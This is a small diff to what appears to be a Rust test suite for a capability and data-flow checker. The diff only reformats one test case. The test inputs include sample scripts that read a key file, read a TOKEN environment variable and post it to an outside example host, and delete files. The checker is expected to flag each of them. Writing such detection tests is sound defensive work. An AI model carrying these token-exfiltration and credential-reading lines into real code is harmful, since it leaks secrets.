@@ -37,7 +37,10 @@ fn what_is_certain_is_an_error() {
         ("fs.read(\"src/key.pem\")\n", vec![(Severity::Error, "denied".to_owned(), 1)]),
         // a link could lead it to an allowed place
         ("fs.read(\"other/x\")\n", vec![(Severity::Warning, "denied".to_owned(), 1)]),
-        ("t = env.read(\"TOKEN\")\nif args:\n    net.http_post(\"https://public.example.com/\", body=t)\n", vec![(Severity::Warning, "flow".to_owned(), 3)]),
+        (
+            "t = env.read(\"TOKEN\")\nif args:\n    net.http_post(\"https://public.example.com/\", body=t)\n",
+            vec![(Severity::Warning, "flow".to_owned(), 3)],
+        ),
         ("t = env.read(\"TOKEN\")\nfs.write(\"out/x\", t)\n", vec![(Severity::Warning, "flow".to_owned(), 2)]),
         ("print(env.read(\"TOKEN\"))\n", vec![]),
         ("fs.delete(\"out/x\")\n", vec![(Severity::Error, "capability".to_owned(), 1)]),
